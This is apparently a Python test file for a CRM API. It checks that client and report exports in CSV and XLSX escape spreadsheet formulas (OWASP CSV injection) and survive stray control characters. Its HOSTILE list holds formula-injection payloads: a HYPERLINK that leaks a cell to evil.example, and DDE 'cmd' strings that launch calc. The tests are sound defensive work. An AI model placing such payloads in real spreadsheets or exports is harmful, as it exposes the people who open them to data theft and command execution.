"""Exports are data, never formulas (OWASP CSV injection), and a stray control
character in old data cannot break the XLSX file for everyone."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
from support.factories import Actor
from support.server import RunningApi

from crm_api.accounts.models import Role
from crm_api.clients.models import Client

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _csv_names(body: bytes) -> list[str]:
    # The actors are Russian users: `;` between cells, headings in Russian.
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    return [r["Имя"] for r in rows]


def _xlsx_cells(body: bytes) -> list[tuple[str | None, object]]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [(c.data_type, c.value) for row in sheet.iter_rows(min_row=2) for c in row[:1]]


async def test_client_export_escapes_formulas_in_csv_and_xlsx(
    api: RunningApi, actors: dict[Role, Actor]
) -> None:
    async with api.client(actors[Role.ADMIN].token) as http:
        for name in [*HOSTILE, "Обычный Клиент"]:
            r = await http.post("/clients", json={"name": name})
            assert r.status_code == 201, r.text
        names = _csv_names((await http.get("/clients/export", params={"format": "csv"})).content)
        cells = _xlsx_cells((await http.get("/clients/export", params={"format": "xlsx"})).content)
    expected = sorted(["'" + n.strip() for n in HOSTILE] + ["Обычный Клиент"])
    assert sorted(names) == expected
    assert all(kind == "s" for kind, _ in cells), cells  # no formula cell
    assert sorted(str(v) for _, v in cells) == expected


async def test_report_export_escapes_formulas(api: RunningApi, actors: dict[Role, Actor]) -> None:
    async with api.client(actors[Role.ADMIN].token) as http:
        r = await http.post("/directories/lead-sources", json={"name": "=1+2"})
        assert r.status_code == 201, r.text
        source = r.json()
        client = (
            await http.post("/clients", json={"name": "К", "lead_source_id": source["id"]})
        ).json()
        await http.post("/deals", json={"client_id": client["id"], "title": "x", "amount": "-5"})
        today = date.today()
        params = {"start": str(today - timedelta(days=2)), "end": str(today + timedelta(days=2))}
        body = (await http.get("/reports/lead-sources", params={**params, "format": "csv"})).content
        assert b"'=1+2" in body and b";=1+2" not in body
        xlsx = (
            await http.get("/reports/lead-sources", params={**params, "format": "xlsx"})
        ).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet is not None
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "'=1+2" in values
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


async def test_a_control_character_in_old_data_does_not_break_the_xlsx_export(
    api: RunningApi, actors: dict[Role, Actor], db: async_sessionmaker[AsyncSession]
) -> None:
    async with api.client(actors[Role.ADMIN].token) as http:
        made = (await http.post("/clients", json={"name": "Старый Клиент"})).json()
    async with db() as session:  # written before the API refused it
        await session.execute(
            update(Client).where(Client.id == made["id"]).values(name="Ста\x01рый Клиент")
        )
        await session.commit()
    async with api.client(actors[Role.ADMIN].token) as http:
        r = await http.get("/clients/export", params={"format": "xlsx"})
        assert r.status_code == 200, r.text
    assert _xlsx_cells(r.content) == [("s", "Старый Клиент")]
